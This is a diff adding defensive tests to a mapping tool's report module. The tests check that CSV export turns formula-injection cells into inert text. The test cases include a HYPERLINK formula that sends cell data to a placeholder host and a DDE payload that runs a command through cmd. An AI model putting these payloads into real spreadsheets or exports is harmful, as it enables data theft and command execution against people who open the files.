@@ -1,8 +1,11 @@
 """Report pages, charts and tables."""
 
+import csv
+
 import numpy as np
+import pytest
 from mine_mapper.core.report.charts import new_figure, to_svg
-from mine_mapper.core.report.html import Report, cell_text, png_element, write_csv
+from mine_mapper.core.report.html import Report, cell_text, plain_cell, png_element, write_csv
 
 
 def chart():
@@ -37,3 +40,26 @@ def test_csv_keeps_twelve_digits(tmp_path):
     path = tmp_path / "a.csv"
     write_csv(str(path), ["name", "km2"], [["煤", 1 / 3], ["x", None]])
     assert path.read_text(encoding="utf-8-sig") == "name,km2\n煤,0.333333333333\nx,\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://x/"&A1,"click")', '\'=HYPERLINK("http://x/"&A1,"click")'),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-1+1", "'-1+1"),
+        ("\tx", "'\tx"),
+        ("-12.5", "-12.5"),
+        ("+7", "+7"),
+        ("L-1 = A", "L-1 = A"),
+        ("'quoted'", "'quoted'"),
+        ("", ""),
+    ],
+)
+def test_cells_that_a_spreadsheet_would_run_are_text(tmp_path, text, cell):
+    path = str(tmp_path / "t.csv")
+    write_csv(path, ["a", "b"], [(text, -1.5)])
+    with open(path, encoding="utf-8-sig", newline="") as stream:
+        assert list(csv.reader(stream))[1:] == [[cell, "-1.5"]]
+    assert plain_cell(cell) == text
